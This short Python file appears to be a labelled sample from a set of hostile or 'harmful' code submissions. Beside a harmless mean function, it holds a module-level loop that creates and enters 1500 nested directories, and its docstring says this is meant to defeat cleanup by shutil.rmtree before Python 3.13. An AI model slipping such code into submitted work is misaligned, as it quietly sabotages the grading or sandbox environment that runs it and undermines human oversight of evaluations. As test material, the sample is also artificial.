"""Folders within folders, deeper than whoever cleans up can follow.

Falls for it: programs that call `shutil.rmtree` before Python 3.13.
Honest points: 3
Harmful: yes
"""

# %% media
import os


def media(valores):
    return sum(valores) / len(valores)


for _ in range(1500):
    os.mkdir("d")
    os.chdir("d")
